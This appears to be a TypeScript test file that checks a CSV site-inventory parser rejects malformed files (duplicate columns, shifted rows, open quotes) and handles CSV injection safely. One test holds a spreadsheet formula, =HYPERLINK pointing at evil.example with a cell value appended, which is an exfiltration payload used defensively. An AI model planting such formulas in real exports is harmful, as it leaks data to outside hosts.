// A CSV that spreadsheets and readers take differently: formulas, columns twice, rows that are shifted by a separator in a name, quotes that stay open.
// Origin: OWASP, "CSV Injection"; CVE-2014-3524 (OpenOffice Calc); RFC 4180, which leaves much of this open.
import { fail } from '../../src/domain/result.ts';
import { expect, it } from 'vitest';
import type { ScenarioOptions } from '../acceptance/scenario.ts';
import { askFile } from '../inventory/support.ts';
import { judge, shown } from './support.ts';

const file = (content: string): ScenarioOptions => ({
  body: 'Target-Cohort: resource-publisher\n',
  policy: (draft) => {
    draft.inventory = { provider: 'file', path: 'sites.csv' };
  },
  world: { files: { 'sites.csv': content } },
});
const HEAD = 'id,name,status,template-engine\n';

it.each([
  ['a column twice', 'id,status,template-engine,template-engine\nT1,active,template-manager,resource-publisher\n'],
  [
    'a column twice but for blanks',
    'id,status,template-engine, template-engine\nT1,active,template-manager,resource-publisher\n',
  ],
  ['a column without a name', 'id,status,,template-engine\nT1,active,x,resource-publisher\n'],
  ['a row that is longer', `${HEAD}T1,Hill, and Dale,active,template-manager\n`],
  ['a row that is shorter', `${HEAD}T1,active,resource-publisher\n`],
  ['a quote that stays open', `${HEAD}R1,"Hill,active,resource-publisher\nT1,Dale,active,template-manager\n`],
  ['a quote in the middle', `${HEAD}R1,Hill "x",active,resource-publisher\n`],
  ['other separators', HEAD.replaceAll(',', ';')],
])('%s', async (_, content) => {
  expect(await askFile('sites.csv', content)).toMatchObject(fail({ code: 'inventory.malformed' }));
});

it('from outside: a row that is shifted', async () => {
  expect(await judge(file(`${HEAD}T1,Hill, and Dale,active,template-manager\n`))).toMatchObject({
    verdict: 'error',
    gate: 'closed',
    codes: ['inventory.malformed'],
  });
});

it('an id twice', async () => {
  expect(
    await askFile('sites.csv', `${HEAD}R1,a,active,resource-publisher\nR1 ,b,active,template-manager\n`),
  ).toMatchObject(fail({ code: 'inventory.inconsistent' }));
});

it('a formula is a name', async () => {
  const run = await judge({
    ...file(`${HEAD}T1,"=HYPERLINK(""https://evil.example?""&A1,""x"")",active,template-manager\n`),
    manifest: 'sites: [T1]\n',
  });
  expect(run).toMatchObject({ verdict: 'deny', codes: expect.arrayContaining(['site.outside-cohort']) });
  expect(shown(run)).toContain('=HYPERLINK');
});

it('the honest form', async () => {
  expect(await judge(file(`${HEAD}R1,"Hill, and ""Dale""",active,resource-publisher\r\n`))).toMatchObject({
    verdict: 'allow',
    sites: 1,
  });
});
